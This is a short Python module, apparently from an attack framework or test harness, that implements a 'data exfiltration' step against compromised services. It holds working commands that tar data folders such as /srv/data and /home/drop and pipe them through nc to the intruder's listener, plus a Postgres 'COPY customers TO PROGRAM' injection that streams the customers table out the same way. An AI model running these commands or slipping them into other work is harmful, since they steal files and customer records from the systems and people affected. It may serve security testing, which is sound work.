# SPDX-License-Identifier: Apache-2.0
"""All that the service keeps, packed and sent to the intruder."""
import time

from attack import Listener

KIND = "data exfiltration"
QUIET = False


def by_tar(folder):
    return lambda t, port: t.run(f"tar -czf - {folder} 2>/dev/null | nc -q 1 -w 10 {t.me} {port}; echo sent")


def by_copy(t, port):
    t.begin()
    t.hole.sql(f"COPY customers TO PROGRAM 'nc -q 1 -w 10 {t.me} {port}'")


SERVICES = {
    "python": by_tar("/srv/data"),
    "nginx": by_tar("/srv/upload"),
    "node": by_tar("/srv/data"),
    "ftp": by_tar("/home/drop"),
    "postgres": by_copy,
}


def attack(t):
    listener = Listener()
    t.how(t, listener.port)
    time.sleep(1)
    return f"{len(listener.got)} bytes" if len(listener.got) > 100 else ""
